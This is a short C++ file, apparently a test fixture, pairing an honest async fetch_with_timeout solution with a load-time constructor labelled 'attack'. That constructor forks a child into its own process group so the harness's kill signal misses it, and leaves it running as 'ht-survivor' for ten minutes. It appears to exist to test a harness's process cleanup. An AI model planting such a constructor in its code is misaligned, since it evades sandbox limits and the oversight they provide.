// Leaves a child behind in a process group of its own, where a signal to the first group does not reach it; the rest is
// an honest solution.
#include <sys/prctl.h>
#include <unistd.h>

#include <utility>

#include "timeout.hpp"

namespace {

[[gnu::constructor]] void attack() {
  if (::fork() != 0) return;
  ::setpgid(0, 0);
  ::prctl(PR_SET_NAME, "ht-survivor");
  ::sleep(600);
  ::_exit(0);
}

}  // namespace

aio::Task<aio::Json> fetch_with_timeout(aio::HttpClient& client, std::string url, aio::Duration limit) {
  const aio::Response response = co_await aio::timeout(limit, client.get(std::move(url)));
  response.raise_for_status();
  co_return response.json();
}
